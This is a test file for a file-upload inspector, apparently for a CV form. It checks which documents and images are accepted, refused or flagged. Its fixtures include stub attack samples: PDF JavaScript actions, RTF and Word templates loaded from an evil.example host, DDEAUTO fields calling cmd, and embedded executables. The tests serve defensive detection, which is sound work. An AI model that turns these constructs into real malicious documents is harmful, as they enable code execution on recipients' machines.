import { describe, expect, it } from 'vitest';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { inspectFile } from './inspectFile';
import { zip } from '../../test/zip';

const ALLOWED = ['pdf', '.doc', 'docx', 'rtf', 'txt', 'xls', 'xlsx', 'JPG', 'png'];
const PNG = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#fff' } })
  .png()
  .toBuffer();
const JPG = await sharp(PNG).jpeg().toBuffer();
const HEIC = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic')]);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF');
const RTF = Buffer.from('{\\rtf1\\ansi קורות חיים}');
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

const types = (type: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/a.xml" ContentType="${type}"/></Types>`;
const docx = (extra: Record<string, string | Buffer> = {}, type = WORD) =>
  zip({ '[Content_Types].xml': types(type), 'word/document.xml': '<w:document/>', ...extra });
const xlsx = () => zip({ '[Content_Types].xml': types(SHEET), 'xl/workbook.xml': '<workbook/>' });

const relationship = (type: string, rest: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${rest}/></Relationships>`;
const pdf = (...objects: string[]) =>
  Buffer.from(`%PDF-1.5\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF`, 'latin1');
const stream = (content: string, dictionary = '') =>
  `5 0 obj<<${dictionary}/Filter/FlateDecode>>stream\n${deflateSync(content).toString('latin1')}\nendstream endobj`;

const outside = (rest: string) =>
  docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', rest) });
/** Start of a Windows program: its two headers. */
const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0'),
]);
const SCRIPT = '5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj';

describe('inspectFile', () => {
  it.each([
    ['cv.pdf', PDF, 'application/pdf'],
    ['קורות חיים.PDF', PDF, 'application/pdf'],
    ['photo.jpg', JPG, 'image/jpeg'],
    ['from-a-browser.JFIF', JPG, 'image/jpeg'],
    ['plan.png', PNG, 'image/png'],
    ['cv.rtf', RTF, 'application/rtf'],
    ['cv.txt', Buffer.from('שלום\r\n\tעולם'), 'text/plain'],
    [
      'of-a-developer.pdf',
      pdf('1 0 obj<</Title(HTML/JavaScript \\(and /Launch\\))>>endobj'),
      'application/pdf',
    ],
    ['text-about-scripts.pdf', pdf(stream('BT (I know /JavaScript) Tj ET')), 'application/pdf'],
    ['objects-in-a-stream.pdf', pdf(stream('1 0 <</Type/Catalog>>', '/Type/ObjStm')), 'application/pdf'],
    [
      'with-a-link.docx',
      docx({
        'word/_rels/document.xml.rels': relationship(
          'hyperlink',
          'Target="https://a.example" TargetMode="External"',
        ),
      }),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    ['cv.docx', docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['table.xlsx', xlsx(), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ])('accepts %s', async (name, bytes, mimeType) => {
    expect(await inspectFile({ name, bytes, allowed: ALLOWED })).toMatchObject({ mimeType, isActive: false });
  });

  it.each([
    ['a kind that the form does not allow', 'a.gif', PNG],
    ['a picture of another kind without an extension', 'photo', HEIC],
    ['text without an extension', 'README', Buffer.from('read me')],
    ['a program', 'cv.pdf.exe', Buffer.from('MZ')],
    ['a macro document', 'cv.docm', docx()],
    ['a page', 'cv.html', Buffer.from('<script>')],
  ])('rejects %s by its extension', async (_case, name, bytes) => {
    await expect(
      inspectFile({ name, bytes, allowed: [...ALLOWED, 'exe', 'docm', 'html'] }),
    ).rejects.toMatchObject({
      reason: 'extension',
    });
  });

  it.each([
    ['a program named pdf', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]), 'content'],
    ['a picture named pdf', 'cv.pdf', PNG, 'content'],
    ['a PDF named jpg', 'photo.jpg', PDF, 'content'],
    ['a HEIC picture named jpg', 'photo.jpg', HEIC, 'picture'],
    ['a PNG picture named jfif', 'photo.jfif', PNG, 'picture'],
    ['a HEIC picture named png', 'photo.png', HEIC, 'picture'],
    [
      'a PDF behind a program',
      'cv.pdf',
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200), PDF]),
      'content',
    ],
    ['binary data named txt', 'cv.txt', Buffer.from([65, 0, 66]), 'text'],
    ['text of control characters', 'cv.txt', Buffer.from('\u0001\u0002\u0003 abc'), 'text'],
    ['an empty file', 'cv.txt', Buffer.alloc(0), 'empty'],
    ['a zip archive named docx', 'cv.docx', zip({ 'a.txt': 'a' }), 'content'],
    ['a workbook named docx', 'cv.docx', xlsx(), 'content'],
    ['an RTF named doc', 'cv.doc', RTF, 'content'],
    ['a page named doc', 'cv.doc', Buffer.from('<!DOCTYPE html><p>קורות חיים</p>'), 'content'],
    ['XML named xls', 'table.xls', Buffer.from('<?xml version="1.0"?><Workbook/>'), 'content'],
    ['text named doc', 'cv.doc', Buffer.from('קורות חיים'), 'content'],
    ['a PDF named doc', 'cv.doc', PDF, 'content'],
    ['a zip archive named xls', 'table.xls', xlsx(), 'content'],
    ['bytes of no known kind named doc', 'cv.doc', Buffer.from([7, 0, 1, 9, 0, 2]), 'damaged'],
    ['the start of a compound file', 'cv.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'damaged'],
    ['a broken archive', 'cv.docx', docx().subarray(0, 60), 'damaged'],
    ['a document with macros', 'cv.docx', docx({ 'word/vbaProject.bin': 'x' }), 'macros'],
    [
      'a document of a macro type',
      'cv.docx',
      docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'macros',
    ],
    ['a document with a document with macros', 'cv.docx', docx({ 'word/embeddings/a.xlsm': 'x' }), 'macros'],
    ['a document with a program', 'cv.docx', docx({ 'word/embeddings/setup.exe': 'MZ' }), 'program'],
    [
      'an RTF with a program',
      'cv.rtf',
      Buffer.from(`{\\rtf1{\\object\\objdata ${PROGRAM.toString('hex')}}}`),
      'program',
    ],
    [
      'an RTF with the name of a program',
      'cv.rtf',
      Buffer.from(`{\\rtf1{\\object\\objdata ${Buffer.from('\0setup.exe\0').toString('hex')}}}`),
      'program',
    ],
    [
      'a PDF with an unknown encryption',
      'cv.pdf',
      pdf('1 0 obj<<>>endobj\ntrailer<</Encrypt 2 0 R>>'),
      'password',
    ],
    [
      'a PDF with an archive behind its end',
      'cv.pdf',
      Buffer.concat([PDF, Buffer.from('\n'), zip({ a: 'a' })]),
      'twoFiles',
    ],
  ])('refuses %s', async (_case, name, bytes, reason) => {
    await expect(inspectFile({ name, bytes, allowed: ALLOWED })).rejects.toMatchObject({ reason });
  });

  it.each([
    ['a PDF with scripts', 'cv.pdf', pdf(SCRIPT)],
    ['a PDF with an escaped name', 'cv.pdf', pdf('1 0 obj<</S/J#61vaScript/#4aS(app.alert(1))>>endobj')],
    [
      'a PDF with a script in an object stream',
      'cv.pdf',
      pdf(stream('1 0 <</S/JavaScript/JS(x)>>', '/Type/ObjStm/N 1/First 4')),
    ],
    ['a PDF with an embedded file', 'cv.pdf', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
    [
      'a PDF with a script behind a string that seems to end its object',
      'cv.pdf',
      pdf('1 0 obj<</Type/Catalog/X(endobj)/OpenAction<</S/JavaScript/JS(x)>>>>endobj'),
    ],
    [
      'a PDF with a script behind a comment that seems to begin a string',
      'cv.pdf',
      pdf('1 0 obj<</Type/Catalog%(\n/OpenAction<</S/JavaScript/JS<6170>>>>>%)\nendobj'),
    ],
    [
      'a PDF that cannot be examined',
      'cv.pdf',
      pdf(stream('0'.repeat(60_000_000), '/Type/ObjStm/N 1/First 4')),
    ],
    ['an RTF with a template', 'cv.rtf', Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dot}}')],
    ['an RTF with an object', 'cv.rtf', Buffer.from('{\\rtf1{\\object\\objdata 00}}')],
    [
      'an RTF with a field that loads data',
      'cv.rtf',
      Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd}}}'),
    ],
    [
      'a document with an external template',
      'cv.docx',
      outside('Target="https://evil.example/t.dotm" TargetMode="External"'),
    ],
    ['a document with an object', 'cv.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
    [
      'a document with a field in two parts',
      'cv.docx',
      docx({
        'word/document.xml':
          '<w:document xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a</w:instrText></w:document>',
      }),
    ],
  ])('accepts and marks %s', async (_case, name, bytes) => {
    expect(await inspectFile({ name, bytes, allowed: ALLOWED })).toMatchObject({ isActive: true });
  });
});
